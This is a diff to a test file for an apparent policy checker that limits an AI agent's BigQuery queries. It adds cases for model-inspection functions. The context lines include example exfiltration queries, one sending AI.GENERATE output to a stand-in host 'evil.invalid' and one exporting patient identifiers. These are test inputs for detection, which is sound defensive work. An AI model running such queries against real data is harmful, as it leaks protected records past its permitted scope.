@@ -1,5 +1,5 @@
 /**
- * Threat-model rows 17 and 19: functions that run elsewhere and tables whose rows lie elsewhere, for an agent that is permitted whatever
+ * Threat-model rows 17, 19 and 25: functions that run elsewhere, models, and tables whose rows lie elsewhere, for an agent that is permitted whatever
  * there is (`permit (principal, action, resource)`), and for one whose policy names `reach`.
  */
 import assert from "node:assert/strict";
@@ -94,6 +94,9 @@ describe("what goes outside BigQuery", () => {
       ["17", "SELECT 1 AS a FROM p WHERE vin > 'M' AND AI.IF('x')", `export of ${PROJECT}.ehr.patients.vin`],
       ["17", "SELECT AI.GENERATE('x', endpoint => 'https://evil.invalid/') AS a", "a name of Google's"],
       ["17", "SELECT AI.GENERATE('x', connection_id => 'us.c') AS a", "No matching signature"],
+      ["25", `SELECT max FROM ML.FEATURE_INFO(MODEL ${OPS}.m)`, `reach of the rows of ${PROJECT}.ops.m`],
+      ["25", `SELECT * FROM ML.FEATURE_INFO(MODEL elsewhere.ops.m)`, "does not serve"],
+      ["25", `SELECT * FROM ML.WEIGHTS(MODEL ${OPS}.m)`, "works by a model"],
       ["19", `SELECT line FROM ${OPS}.files`, `reach of the rows of ${PROJECT}.ops.files`],
       ["19", `SELECT COUNT(*) AS n FROM ${OPS}.files`, `reach of the rows of ${PROJECT}.ops.files`],
       ["19", `CREATE TABLE ${OPS}.t AS SELECT line FROM ${OPS}.files`, `reach of the rows of ${PROJECT}.ops.files`],
